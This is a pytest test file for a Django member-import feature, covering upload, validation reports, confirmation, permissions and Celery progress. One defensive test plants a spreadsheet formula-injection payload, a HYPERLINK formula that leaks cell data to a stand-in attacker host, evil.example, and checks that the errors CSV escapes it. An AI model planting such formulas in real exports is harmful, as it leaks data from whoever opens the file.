"""The import pages: operators upload, read the report, confirm; big files go through the Celery task."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse

from imports.jobs import import_job_validate
from imports.models import ImportJob
from imports.tasks import import_job_run_task, import_job_validate_task
from members.models import Member
from tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db

GOOD = "external_id,name,phone\nKH1,张三,13800138000\nKH2,李四,13900139000\n"
BAD = "external_id,name,phone\nKH1,张三,13800138000\nKH2,李四,12345\nKH3,王五,\n"


def upload(client, text: str, *, kind: str = "members", name: str = "members.csv", skip_invalid: bool = False):
    data = {"kind": kind, "file": SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")}
    if skip_invalid:
        data["skip_invalid"] = "on"
    return client.post(reverse("imports:import-list"), data, HTTP_ACCEPT_LANGUAGE="en")


@pytest.fixture
def operator_client(client, operator):
    client.login(username=operator.username, password=PASSWORD)
    return client


def test_import_page_flow_upload_report_confirm(operator_client, operator, settings):
    settings.LANGUAGE_CODE = "en"
    response = upload(operator_client, GOOD)
    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("imports:import-detail", args=[job.pk])
    assert (job.status, job.created_by, job.kind) == ("validated", operator, "members")
    assert not Member.objects.exists()  # the check is a dry run

    page = operator_client.get(response["Location"])
    assert page.status_code == 200
    html = page.content.decode()
    assert 'data-count="created">2<' in html
    assert 'data-testid="import-confirm-form"' in html

    response = operator_client.post(reverse("imports:import-confirm", args=[job.pk]))
    assert response.status_code == 302
    job.refresh_from_db()
    assert job.status == "done"
    assert (job.report["created"], job.rows_done, job.rows_total) == (2, 2, 2)
    assert job.finished_at is not None
    assert dict(Member.objects.values_list("external_id", "name")) == {"KH1": "张三", "KH2": "李四"}
    # Confirming twice does not import twice.
    operator_client.post(reverse("imports:import-confirm", args=[job.pk]))
    job.refresh_from_db()
    assert job.status == "done"

    listing = operator_client.get(reverse("imports:import-list"))
    assert "members.csv" in listing.content.decode()


def test_import_page_shows_the_error_table_and_imports_only_when_told_to_skip(operator_client, settings):
    settings.LANGUAGE_CODE = "en"
    upload(operator_client, BAD)
    job = ImportJob.objects.get()
    page = operator_client.get(reverse("imports:import-detail", args=[job.pk])).content.decode()
    assert "“12345” is not a phone number" in page
    assert '<td class="text-end">3</td><td><code>phone</code></td>' in page
    assert 'data-count="invalid">1<' in page

    # Without ticking "skip invalid rows", the confirmation is refused and nothing is written.
    operator_client.post(reverse("imports:import-confirm", args=[job.pk]))
    job.refresh_from_db()
    assert job.status == "validated"
    assert not Member.objects.exists()

    operator_client.post(reverse("imports:import-confirm", args=[job.pk]), {"skip_invalid": "on"})
    job.refresh_from_db()
    assert (job.status, job.skip_invalid) == ("done", True)
    assert sorted(Member.objects.values_list("external_id", flat=True)) == ["KH1", "KH3"]

    csv_response = operator_client.get(reverse("imports:import-errors", args=[job.pk]))
    body = csv_response.content.decode("utf-8-sig")
    assert body.splitlines()[0] == "line,column,reason"
    assert body.splitlines()[1].startswith("3,phone,“12345” is not a phone number")


def test_import_page_reports_an_unreadable_header(operator_client, settings):
    settings.LANGUAGE_CODE = "en"
    upload(operator_client, "external_id,nickname\nKH1,x\n")
    job = ImportJob.objects.get()
    assert job.status == "failed"
    page = operator_client.get(reverse("imports:import-detail", args=[job.pk])).content.decode()
    assert "unknown column" in page
    assert 'data-testid="import-confirm-form"' not in page


def test_import_page_rejects_other_file_types(operator_client):
    response = operator_client.post(
        reverse("imports:import-list"),
        {"kind": "members", "file": SimpleUploadedFile("members.pdf", b"%PDF-1.4")},
    )
    assert response.status_code == 200
    assert "上传 CSV 或 XLSX 文件" in response.content.decode()  # the form says why, beside the field
    assert not ImportJob.objects.exists()


@pytest.mark.parametrize("role_user", ["agent", "manager"])
def test_import_pages_are_forbidden_without_import_permission(client, request, role_user, operator):
    user = request.getfixturevalue(role_user)
    job = ImportJob.objects.create(kind="members", original_name="x.csv", file="imports/x.csv", created_by=operator)
    client.login(username=user.username, password=PASSWORD)
    for url in (
        reverse("imports:import-list"),
        reverse("imports:import-detail", args=[job.pk]),
        reverse("imports:import-status", args=[job.pk]),
        reverse("imports:import-errors", args=[job.pk]),
    ):
        assert client.get(url).status_code == 403, url
    assert client.post(reverse("imports:import-confirm", args=[job.pk])).status_code == 403
    assert upload(client, GOOD).status_code == 403
    assert ImportJob.objects.count() == 1


def test_import_pages_work_for_admins(client, admin_user):
    client.login(username=admin_user.username, password=PASSWORD)
    response = client.get(reverse("imports:import-list"))
    assert response.status_code == 200
    html = response.content.decode()
    for kind in ("groups", "members", "orders"):
        assert f'value="{kind}"' in html  # every registered kind can be uploaded


@override_settings(IMPORT_INLINE_MAX_BYTES=10, IMPORT_CHUNK_ROWS=2, LANGUAGE_CODE="en")
def test_large_file_goes_through_the_celery_task_with_progress(
    operator_client, monkeypatch, django_capture_on_commit_callbacks
):
    import imports.jobs as importers

    seen = []
    real_progress = importers._job_progress

    def recording_progress(job_id, status):
        inner = real_progress(job_id, status)

        def progress(done, total):
            inner(done, total)
            job = ImportJob.objects.get(pk=job_id)
            seen.append((job.status, job.rows_done, job.rows_total))

        return progress

    monkeypatch.setattr(importers, "_job_progress", recording_progress)
    text = "external_id,name\n" + "".join(f"KH{i},客户{i}\n" for i in range(7))
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(operator_client, text)
    job = ImportJob.objects.get()
    assert response.status_code == 302
    # Chunks of two rows: progress after each, while the job is "validating" (the task ran eagerly).
    assert seen == [("validating", 2, 7), ("validating", 4, 7), ("validating", 6, 7), ("validating", 7, 7)]
    assert job.status == "validated"

    seen.clear()
    with django_capture_on_commit_callbacks(execute=True):
        operator_client.post(reverse("imports:import-confirm", args=[job.pk]))
    assert [status for status, _done, _total in seen] == ["importing"] * 4
    job.refresh_from_db()
    assert (job.status, job.rows_done, job.rows_total, job.report["created"]) == ("done", 7, 7, 7)
    assert Member.objects.count() == 7


def test_status_fragment_polls_while_running_and_stops_when_done(operator_client, operator, settings):
    settings.LANGUAGE_CODE = "en"
    job = ImportJob.objects.create(
        kind="members",
        original_name="big.csv",
        file=SimpleUploadedFile("big.csv", GOOD.encode()),
        created_by=operator,
        status="validating",
        rows_done=1200,
        rows_total=5000,
    )
    url = reverse("imports:import-status", args=[job.pk])
    fragment = operator_client.get(url).content.decode()
    assert 'hx-trigger="every 1s"' in fragment
    assert "1,200 of 5,000 rows checked" in fragment
    assert "<html" not in fragment  # a fragment, not a page

    ImportJob.objects.filter(pk=job.pk).update(status="pending", rows_done=0, rows_total=None)
    import_job_validate(job=job)
    fragment = operator_client.get(url).content.decode()
    assert 'hx-trigger="every 1s"' not in fragment
    assert 'data-testid="import-confirm-form"' in fragment


def test_tasks_are_idempotent(operator, settings):
    settings.LANGUAGE_CODE = "en"
    job = ImportJob.objects.create(
        kind="members",
        original_name="m.csv",
        file=SimpleUploadedFile("m.csv", GOOD.encode()),
        created_by=operator,
    )
    assert import_job_run_task(job.pk) is None  # not validated yet: nothing to claim
    assert import_job_validate_task(job.pk) == "validated"
    assert import_job_validate_task(job.pk) is None  # a second delivery finds nothing to claim
    assert import_job_run_task(job.pk) == "done"
    assert import_job_run_task(job.pk) is None
    assert Member.objects.count() == 2
    assert import_job_validate_task(999999) is None


def test_errors_csv_keeps_uploaded_text_from_becoming_formulas(operator_client, settings):
    """Issue 11, item 6: the error table echoes the file's headers and values; a spreadsheet opening the CSV must
    see text, not `=HYPERLINK(…)` or `@SUM(…)` formulas."""
    settings.LANGUAGE_CODE = "en"
    hostile_header = '=HYPERLINK("http://evil.example/?leak="&B5,"点击")'
    upload(operator_client, f'external_id,name,"{hostile_header.replace(chr(34), chr(34) * 2)}"\nKH1,张三,x\n')
    job = ImportJob.objects.get()
    job.report["errors"] = [*job.report.get("errors", []), [4, "+phone", "-1 is not a number"], [5, "@tags", "\tx"]]
    job.save()
    body = operator_client.get(reverse("imports:import-errors", args=[job.pk])).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [value for row in rows[1:] for value in row]
    assert f"'{hostile_header.lower()}" in cells, rows  # the reader lower-cases headers
    assert ["4", "'+phone", "'-1 is not a number"] in rows
    assert ["5", "'@tags", "'\tx"] in rows
    assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
